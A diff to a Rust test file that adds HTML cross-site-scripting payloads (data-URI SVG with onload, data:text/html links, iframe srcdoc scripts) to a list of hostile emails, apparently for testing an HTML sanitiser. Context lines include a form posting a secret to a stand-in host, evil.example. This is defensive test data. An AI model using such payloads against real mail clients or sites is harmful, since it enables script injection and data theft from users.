@@ -221,6 +221,9 @@ const HOSTILE_MAILS: &[&str] = &[
     "<form action=\"https://evil.example/steal\"><input name=p value=secret><button>go</button></form><p>sixteen</p>",
     "<a href=\"javascript:alert('link')\" id=l>seventeen</a><script>document.getElementById('l').click()</script>",
     "<p style=\"width:expression(alert('css'))\">eighteen</p>",
+    "<img src=\"data:image/svg+xml,%3Csvg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'%3E%3Cscript%3Ealert(2)%3C/script%3E%3C/svg%3E\"><p>nineteen</p>",
+    "<a href=\"data:text/html,%3Cscript%3Ealert('data')%3C/script%3E\" id=d>twenty</a><img src=\"cid:missing@x\">",
+    "<iframe srcdoc=\"&lt;script&gt;alert('srcdoc')&lt;/script&gt;\"></iframe><p>twenty-one</p>",
 ];
 
 #[test]
